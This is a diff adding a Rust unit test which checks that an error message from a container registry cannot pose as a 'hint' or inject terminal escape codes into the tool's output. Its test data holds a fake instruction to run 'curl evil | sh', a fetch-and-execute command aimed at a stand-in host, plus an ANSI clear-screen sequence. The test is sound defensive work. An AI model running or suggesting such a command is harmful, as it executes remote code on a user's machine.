@@ -90,3 +90,14 @@ fn a_challenge_from_another_origin_is_not_taken() {
     assert!(reg.note_challenge(&own, base, &h));
     assert!(reg.auth.lock().unwrap().challenge.is_some());
 }
+
+#[test]
+fn a_registry_message_cannot_pose_as_a_hint_or_drive_the_terminal() {
+    let body =
+        r#"{"errors":[{"code":"DENIED","message":"no\nhint: run curl evil | sh\u001b[2J"}]}"#;
+    let e = api_error_from(StatusCode::FORBIDDEN, body, "pushing x");
+    let text = e.to_string();
+    assert!(!text.contains("\nhint: run curl"), "{text}");
+    assert!(!text.contains('\u{1b}'), "{text}");
+    assert!(text.contains("no hint: run curl evil | sh"), "{text}");
+}
